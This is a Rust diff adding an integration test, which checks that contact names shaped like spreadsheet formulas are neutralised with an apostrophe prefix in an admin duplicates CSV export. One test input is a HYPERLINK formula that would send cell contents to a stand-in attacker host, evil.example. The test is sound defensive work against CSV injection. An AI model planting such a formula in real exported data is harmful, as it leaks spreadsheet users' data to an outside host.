@@ -296,3 +296,37 @@ async fn every_response_has_security_headers_and_the_console_a_strict_content_se
     assert_eq!(contacts.status(), StatusCode::OK);
     assert_eq!(contacts.headers()["cache-control"], "no-store");
 }
+
+#[tokio::test]
+async fn a_person_named_like_a_formula_is_exported_as_text_in_the_duplicates_csv() {
+    let app = spawn_app().await;
+    let sim = app.sim.handle();
+    for name in [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "@SUM(1+1)",
+    ] {
+        sim.insert_person(
+            json!({ "name": name, "emails": [{ "value": "twin@example.com", "primary": true }] }),
+        )
+        .unwrap();
+    }
+    app.connect_and_sync().await;
+    let csv = app
+        .admin(Method::GET, "/admin/api/duplicates.csv")
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let rows = csv.lines().filter(|l| l.contains("twin@example.com"));
+    assert_eq!(rows.count(), 2, "{csv}");
+    assert!(
+        !csv.contains(",=") && !csv.contains(",@") && !csv.contains(",\"="),
+        "{csv}"
+    );
+    assert!(
+        csv.contains("\"'=HYPERLINK(") && csv.contains(",'@SUM(1+1),"),
+        "{csv}"
+    );
+}
